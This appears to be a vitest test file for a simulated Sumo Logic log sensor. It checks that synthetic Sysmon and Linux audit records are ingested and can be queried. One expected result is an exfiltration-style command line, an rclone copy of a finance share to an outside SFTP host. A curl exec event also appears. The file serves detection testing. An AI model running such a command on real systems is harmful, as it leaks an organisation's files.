import { expect, test } from 'vitest'
import { SUMO } from '../../src/simulation/sensors/sumo.ts'
import { sampleActivities } from './sample-scenario.ts'
import { observed, rowsOf, sessionOver } from './written-records.ts'

const all = (['windows', 'linux'] as const).flatMap((os) => observed(SUMO, sampleActivities(os)))

test('messages of Sumo are read whole, and queried by their JSON and as text', async () => {
  const session = await sessionOver(SUMO, 'jsonl', all)
  const { read, rejected, unmapped } = session.ingested.counts
  expect({ read, rejected, unmapped }).toEqual({ read: all.length, rejected: 0, unmapped: 0 })
  const start = `_sourceCategory=windows/sysmon rclone
    | json "EventID", "EventData.CommandLine", "Computer" as id, command, computer
    | where id = "1" | fields id, command, computer`
  const [row, ...others] = await rowsOf(session, 'sumo', start)
  expect(others).toEqual([])
  expect(row).toMatchObject({
    id: '1',
    command: 'rclone.exe copy C:\\Shares\\Finance :sftp:inbox --sftp-host 93.184.215.14',
    computer: 'WS-LAB-01.corp.example',
  })
  const calls = `_sourceCategory=linux/audit "type=SYSCALL" | parse "exe=\\"*\\" key=\\"*\\"" as exe, key | where key = "exec" | fields exe, key`
  expect(await rowsOf(session, 'sumo', calls)).toMatchObject([{ exe: '/usr/bin/curl', key: 'exec' }])
})
